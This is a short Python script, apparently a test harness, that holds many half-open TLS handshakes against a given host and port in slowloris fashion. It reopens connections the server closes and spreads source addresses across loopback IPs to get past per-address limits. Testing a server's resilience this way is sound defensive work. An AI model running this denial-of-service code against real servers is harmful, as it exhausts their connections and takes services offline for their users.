#!/usr/bin/env python3
"""Holds N half-open TLS handshakes against HOST:PORT for SECONDS: each connection sends the first 60 bytes of a
ClientHello record (which announces 512 bytes) and then nothing. A connection the server closes is opened again, as a
real slowloris does. Source addresses are spread over 127.0.0.2-127.0.0.21 (loopback), so a per-address cap does not
simply refuse them. Prints how many were held at the end and how many times the server closed one."""
import os, selectors, socket, sys, time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
sources = [f"127.0.0.{i}" for i in range(2, 22)]
half = b"\x16\x03\x01\x02\x00" + b"\x01\x00\x01\xfc\x03\x03" + os.urandom(49)
sel = selectors.DefaultSelector()
opened = closed = 0

def open_one(i):
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((sources[i % len(sources)], 0))
    s.connect((host, port))
    s.sendall(half)
    sel.register(s, selectors.EVENT_READ, i)
    opened += 1

for i in range(n):
    open_one(i)
print(f"slowloris: {n} half-open handshakes held", flush=True)
end = time.monotonic() + seconds
while time.monotonic() < end:
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed by the server (handshake timeout): open another
            sel.unregister(s)
            s.close()
            closed += 1
            open_one(key.data)
print(f"slowloris: done, {len(sel.get_map())} held at the end, {closed} closed by the server and reopened", flush=True)
